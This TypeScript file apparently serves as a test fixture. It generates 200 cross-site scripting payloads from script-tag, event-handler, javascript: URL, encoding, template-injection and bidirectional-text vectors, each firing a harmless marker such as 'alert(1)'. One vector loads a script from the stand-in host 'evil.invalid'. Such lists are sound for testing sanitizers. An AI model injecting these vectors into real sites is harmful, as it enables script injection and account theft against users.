/** What an injected script does to be noticed: a dialog, a mark on the window. */
const acts = ['alert(1)', 'window.__ran=1'] as const;

/** Ways into a page, `%` for what would run. One line each: a field of one line keeps them as they are. */
const vectors = [
  '<script>%</script>', '<SCRIPT>%</SCRIPT>', '</script><script>%</script>', '<script src=//evil.invalid/x.js></script><script>%</script>', '<scr<script>ipt>%</scr</script>ipt>',
  '<script type=module>%</script>', '<svg><script>%</script></svg>', '<script>/*</script><svg onload=%>*/', '"><script>%</script>', "'><script>%</script>",
  '<img src=x onerror=%>', '<img src=x onerror="%">', '"><img src=x onerror=%>', "'><img src=x onerror=%>", '`><img src=x onerror=%>', '<img/src=x/onerror=%>', '<IMG SRC=x OnErRoR=%>', '<img src=x:x onerror=%//',
  '<img src="javascript:%">', '<img srcset=x onerror=%>', '<image src=x onerror=%>', '<img src=x onerror=eval(atob("YWxlcnQoMSk="));%>', '<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=%>', '--><img src=x onerror=%>',
  '<svg onload=%>', '<svg/onload=%>', '<svg><animate onbegin=% attributeName=x dur=1s>', '<svg><set onbegin=% attributename=x>', '<svg><a xlink:href="javascript:%"><text>x</text></a>', '<svg><use href="data:image/svg+xml,<svg onload=%>">', '<svg><foreignObject><body onload=%>', '<svg><style><img src=x onerror=%></style>',
  '<body onload=%>', '<body onpageshow=%>', '<iframe src="javascript:%"></iframe>', '<iframe srcdoc="<script>%</script>"></iframe>', '<iframe onload=%></iframe>', '<object data="javascript:%"></object>', '<embed src="javascript:%">', '<math><mtext></form><form><mglyph><style></math><img src=x onerror=%>',
  '<input autofocus onfocus=%>', '<select autofocus onfocus=%>', '<textarea autofocus onfocus=%>', '<button autofocus onfocus=%>x</button>', '<details open ontoggle=%>', '<video><source onerror=%></video>', '<video src=x onerror=%>', '<audio src=x onerror=%>', '<marquee onstart=%>x</marquee>', '<meter onmouseover=%>0</meter>',
  '<form><button formaction="javascript:%">x</button></form>', '<a href="javascript:%" autofocus>x</a>', '<a href="java&#x09;script:%">x</a>', '<base href="javascript:%//">', '<link rel=stylesheet href="javascript:%">', '<meta http-equiv=refresh content="0;url=javascript:%">', '<style>@import "javascript:%";</style>', '<div style="background:url(javascript:%)">x</div>', '<x onclick=% tabindex=1 autofocus>x</x>', '<dialog open onclose=%><form method=dialog><button autofocus>x</button></form></dialog>',
  'javascript:%', 'JaVaScRiPt:%', 'javascript\u00a0:%//x', 'java\u0001script:%', 'javascript://%0a%', 'data:text/html,<script>%</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#%', 'vbscript:%', 'blob:%', 'view-source:javascript:%',
  '" onmouseover=% x="', "' onmouseover=% x='", '" autofocus onfocus=% x="', '"/onload=%/x="', "';%;//", '";%;//', '`;%;//', '\\";%;//', '</title><script>%</script>', '</textarea><script>%</script>', '</style><script>%</script>', '</noscript><img src=x onerror=%>', '<!--><img src=x onerror=%>-->', '<![CDATA[><img src=x onerror=%>]]>',
  '{{constructor.constructor("%")()}}', '${%}', '#{%}', '<%= % %>', '{{7*7}}%', '[[${%}]]', '__proto__ %', 'constructor[prototype] %', '&lt;script&gt;%&lt;/script&gt;', '&#60;script&#62;%&#60;/script&#62;', '\\u003cscript\\u003e%\\u003c/script\\u003e', '%3Cscript%3E%%3C/script%3E',
  '\u202e>tpircs/<%>tpircs<', '\u2067<b onclick=%>\u2069', '＜script＞%＜/script＞', 'x\u2028%//', '[x](javascript:%)', '![x](x"onerror="%)', '<b>%</b>',
] as const;

/** 200 texts that run where a text is taken for markup, an address or a template; several turn the reading direction. */
export const payloads: readonly string[] = vectors.flatMap((vector) => acts.map((act) => vector.replaceAll('%', act))).slice(0, 200);
